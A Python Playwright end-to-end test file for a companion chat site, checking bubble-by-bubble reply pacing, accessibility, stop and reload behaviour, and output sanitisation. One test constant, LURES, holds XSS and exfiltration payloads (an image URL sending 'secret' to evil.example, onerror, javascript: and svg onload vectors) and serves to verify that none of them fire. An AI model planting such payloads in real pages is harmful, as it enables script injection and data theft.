"""A reply as it comes to the screen: read, typed, sent bubble by bubble, and never for longer than a fan will wait."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from companion_site.tests.e2e.park import ROOT

LINES = ["坐，雪还要下一阵呢。", "今天不走也行，火一直生着。", "先喝口热水，慢慢说吧。"]
# What a model writes that wants a browser to ask somebody else.
LURES = (
    "![x](https://evil.example/a.png?q=secret) <img src=https://evil.example/b.png onerror=alert(1)> "
    "[y](javascript:alert(1)) <svg onload=alert(1)> <link rel=prefetch href=//evil.example> **bold**"
)
# Notes when each bubble came, and when the dots came and went.
WATCH = """() => {
  globalThis.seen = [];
  const note = (what) => seen.push([what, Math.round(performance.now())]);
  new MutationObserver(() => {
    const stream = document.querySelector("chat-stream");
    if (!stream) return;
    const bubbles = stream.querySelectorAll("[data-words] > *").length;
    const dots = stream.querySelector("[data-typing]").hidden ? "still" : "typing";
    if (seen.at(-1)?.[0] !== `${bubbles} ${dots}`) note(`${bubbles} ${dots}`);
  }).observe(document.querySelector("#log"), { childList: true, subtree: true, attributes: true });
}"""


def events(*parts, status="complete"):
    """Return a stream that says these parts at once and ends."""
    rows = [("start", {"text": ""}), *(("delta", {"t": part}) for part in parts)]
    rows.append(("done", {"status": status, "text": "".join(parts)}))
    return "".join(
        f"id: 1-{number}\nevent: {name}\ndata: {json.dumps(data)}\n\n" for number, (name, data) in enumerate(rows, 1)
    )


def tell(route, body):
    """Answer with this stream as soon as the server's own reply is stored: what comes after it asks for that."""
    route.fetch()
    route.fulfill(body=body, content_type="text/event-stream")


@pytest.fixture
def chat(park, visit):
    """A fan in a chat, with motion; `says` is what the next stream brings."""

    def open_chat(name="洛樱", *, says=LINES, motion="no-preference"):
        visitor = visit(park)
        page = visitor.page
        page.emulate_media(reduced_motion=motion)
        visitor.sign_in("fan")
        visitor.go("/chat/")
        page.locator(".chat-item").filter(has_text=name).first.click()
        expect(page.locator("#log article").first).to_be_attached()
        if says is not None:
            page.route("**/stream/", lambda route: tell(route, events(*says)))
        page.evaluate(WATCH)
        return visitor, page

    return open_chat


def say(page, text="外面下雪了。"):
    """Send it, and return when its reply is on its way."""
    page.fill("#say", text)
    page.locator("#say").press("Enter")
    page.wait_for_selector("chat-stream", state="attached")


def choose(page, scene):
    with page.expect_navigation():
        page.select_option("#scene", scene)


def bubbles(page):
    return page.locator("chat-stream [data-words] > *")


def ended(page):
    expect(page.locator("chat-stream, #log [data-status=sending]")).to_have_count(0)


def test_a_reply_is_read_typed_and_sent_bubble_by_bubble(chat):
    _, page = chat()

    say(page)
    ended(page)

    seen = page.evaluate("seen")
    assert [what for what, _ in seen] == [
        *("0 still", "0 typing", "1 still", "1 typing", "2 still", "2 typing", "3 typing"),
    ]
    at = dict(seen)
    # Timers are never early: the pace of the scene is the least that passes.
    assert at["0 typing"] - at["0 still"] >= 200
    assert at["1 still"] - at["0 typing"] >= 500
    assert at["1 typing"] - at["1 still"] >= 300
    assert at["3 typing"] - at["2 still"] >= 900
    # In all no longer than a finished reply may be held back, and what a busy machine adds.
    assert at["3 typing"] - at["0 still"] <= 6000 + 2000


@pytest.mark.parametrize("way", ["tap", "Enter", "Escape"])
def test_who_taps_or_presses_a_key_sees_the_rest_at_once(chat, way):
    _, page = chat()
    say(page)
    expect(bubbles(page)).to_have_count(1)

    if way == "tap":
        page.locator("#log").click(position={"x": 5, "y": 5})
    else:
        page.keyboard.press(way)

    ended(page)
    first, last = page.evaluate("[seen.find(([what]) => what[0] === '1')[1], seen.at(-1)[1]]")
    assert last - first < 2200  # two more bubbles of 1.3 s each had been to come


def test_writing_the_next_line_is_no_impatience(chat):
    _, page = chat()
    say(page)
    expect(bubbles(page)).to_have_count(1)

    page.locator("#say").press_sequentially("我")

    assert bubbles(page).count() == 1
    ended(page)


def test_a_tab_nobody_looks_at_sets_no_timers(chat):
    _, page = chat()
    say(page)
    expect(bubbles(page)).to_have_count(1)

    page.evaluate("""() => {
      globalThis.timers = 0;
      const set = globalThis.setTimeout;
      globalThis.setTimeout = (go, wait) => ((timers += wait >= 100 && wait !== 1000 ? 1 : 0), set(go, wait));
      Object.defineProperty(document, "hidden", { get: () => true, configurable: true });
      document.dispatchEvent(new Event("visibilitychange"));
    }""")

    assert page.evaluate("seen.at(-1)[0][0]") in "13"
    expect(page.locator("chat-stream")).to_have_count(0)
    assert page.evaluate("timers") == 0


@pytest.mark.parametrize("why", ["less motion", "the fan's wish", "the scene"])
def test_without_a_pace_the_words_come_as_they_are(chat, why, park):
    visitor, page = chat(motion="reduce" if why == "less motion" else "no-preference")
    if why == "the fan's wish":
        page.evaluate("document.querySelector('chat-log').dataset.reads = 'at_once'")
    if why == "the scene":
        choose(page, "knowledge")
        page.evaluate(WATCH)

    say(page)
    ended(page)

    seen = page.evaluate("seen")
    assert seen[-1][1] - seen[0][1] < 2500  # with a pace it takes 3.9 s
    assert seen[-1][0][0] == ("1" if why == "the scene" else "3")
    if why == "the scene":
        choose(page, "story")


def test_the_ear_gets_sentences(chat):
    _, page = chat(motion="reduce")
    page.evaluate("""() => {
      globalThis.heard = [];
      new MutationObserver((changes) => heard.push(...changes.flatMap(({ target, addedNodes }) =>
        target.matches?.("[data-heard]") ? [...addedNodes].map((node) => node.textContent) : [])))
        .observe(document.querySelector("#log"), { childList: true, subtree: true });
    }""")

    say(page)
    ended(page)

    assert page.evaluate("heard") == LINES
    # What was heard is not read out once more with the finished message; later words are.
    expect(page.locator("#log")).to_have_attribute("aria-live", "polite")


def test_a_reflex_comes_first_and_a_page_loaded_again_looks_as_it_did(chat):
    _, page = chat(says=None)

    say(page, "我好难过，特别难过，今天真的撑不住了。")
    expect(bubbles(page)).not_to_have_count(0)
    reflex = bubbles(page).first.text_content()
    ended(page)

    seen = page.evaluate("seen")
    assert not [what for what, _ in seen if what == "0 typing"]  # nobody reads before they reach out
    last = page.locator("article.msg--character").last.locator(".msg__words")
    live = last.inner_html()
    page.reload()
    assert last.inner_html() == live
    assert last.locator("> *").first.text_content() == reflex
    assert last.locator("> *").count() > 1


def test_stop_keeps_what_had_arrived(chat):
    _, page = chat(says=None)
    say(page, "你在吗")

    page.locator(".composer__stop").click()
    ended(page)

    expect(page.locator("article.msg--character").last).to_have_attribute("data-status", "complete")
    assert page.locator("article.msg--character").last.locator(".msg__words > *").count() >= 1


def test_f12_nothing_a_model_writes_makes_the_browser_ask_anybody(chat, park):
    visitor, page = chat(says=[LURES], motion="reduce")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate("""() => new MutationObserver(() => {
      globalThis.tags = [...(globalThis.tags ?? []),
        ...[...document.querySelectorAll("[data-words] *")].map(({ tagName }) => tagName)];
    }).observe(document.querySelector("#log"), { childList: true, subtree: true })""")

    say(page, LURES)
    ended(page)
    answer = page.reload()

    assert [url for url in asked if not url.startswith(park.url)] == []
    assert set(page.evaluate("globalThis.tags ?? []")) <= {"P", "SPAN", "STRONG", "EM"}
    fan = page.locator("article.msg--fan").last
    assert fan.locator("img, a[href*=evil], svg[onload], link, script").count() == 0
    expect(fan.locator(".msg__words")).to_contain_text("<img src=https://evil.example/b.png onerror=alert(1)>")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "evil" not in policy
    assert "img-src 'self' data:;" in f"{policy};"


@pytest.mark.parametrize(
    ("language", "position", "words"),
    [
        ("en", 1, "next"),
        ("en", 2, "2nd"),
        ("en", 3, "3rd"),
        ("en", 11, "11th"),
        ("en", 21, "21st"),
        ("zh-hans", 3, "3th"),  # one form for all numbers, as Chinese has it
    ],
)
def test_the_place_in_line_is_said_as_people_say_it(browser, language, position, words):
    page = browser.new_page()
    forms = 'data-next="next" data-one="{n}st" data-two="{n}nd" data-few="{n}rd" data-other="{n}th"'
    page.set_content(
        f'<html lang="{language}"><div id="s"><p data-queued hidden {forms}><span></span></p></div></html>'
    )
    module = (ROOT / "companion_site/static/js/components/chat-marks.js").read_text(encoding="utf-8")
    page.add_script_tag(type="module", content=f"{module}\nglobalThis.marks = new Marks(document.querySelector('#s'));")

    page.evaluate(f"marks.queued({position})")

    expect(page.locator("[data-queued]")).to_be_visible()
    expect(page.locator("[data-queued]")).to_have_text(words)
    page.close()
